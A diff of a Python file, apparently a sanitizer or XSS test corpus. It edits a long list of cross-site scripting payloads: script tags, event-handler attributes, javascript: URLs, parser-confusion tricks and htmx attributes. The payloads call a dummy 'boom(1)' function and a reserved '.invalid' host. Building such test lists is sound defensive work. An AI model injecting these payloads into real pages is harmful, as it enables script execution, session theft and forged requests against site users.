@@ -7,7 +7,7 @@ from itertools import product
 
 RUN = "boom(1)"
 TAGS = [
-    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script src=//boom.invalid/x.js></script>", f"<script/x>{RUN}</script>",
+    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", "<script src=//boom.invalid/x.js></script>", f"<script/x>{RUN}</script>",
     f"<img src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>", f"<IMG SRC=x ONERROR='{RUN}'>", f"<svg onload={RUN}>",
     f"<svg/onload={RUN}//", f"<svg><script>{RUN}</script></svg>", f"<svg><a href='javascript:{RUN}'><text>按</text></a></svg>",
     f"<math><mtext><img src=x onerror={RUN}></math>", f"<body onload={RUN}>", f"<iframe src=javascript:{RUN}></iframe>",
@@ -15,10 +15,10 @@ TAGS = [
     f"<a href=javascript:{RUN}>按</a>", f"<a href=' javascript:{RUN}'>按</a>", f"<a href=java&#9;script:{RUN}>按</a>",
     f"<form action=javascript:{RUN}><button>按</button></form>", f"<input autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>",
     f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>", f"<marquee onstart={RUN}>动</marquee>",
-    f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>", f"<style>@import '//boom.invalid/x.css'</style>",
+    f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>", "<style>@import '//boom.invalid/x.css'</style>",
     "<link rel=stylesheet href=//boom.invalid/x.css>", "<base href=//boom.invalid/>", "<meta http-equiv=refresh content='0;url=//boom.invalid'>",
     f"<template><script>{RUN}</script></template>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
-    f"<div style='background:url(//boom.invalid/x)'>", f"<p style=animation-name:x onanimationstart={RUN}>", f"<keygen autofocus onfocus={RUN}>",
+    "<div style='background:url(//boom.invalid/x)'>", f"<p style=animation-name:x onanimationstart={RUN}>", f"<keygen autofocus onfocus={RUN}>",
     "<div hx-get=//boom.invalid hx-trigger=load>", "<div hx-on:load='boom(1)' hx-on::after-request='boom(1)'>", "<div data-hx-get=/people hx-trigger=load>",
     f"<button hx-post=/duties/1/waiver hx-vals='js:{{x:{RUN}}}' hx-trigger=load>", "<i data-again=1 data-closes>", "<xmp><img src=x onerror=boom(1)></xmp>",
     f"<!--><script>{RUN}</script>-->", f"<![CDATA[<script>{RUN}</script>]]>", f"<?xml version='1.0'?><script>{RUN}</script>",
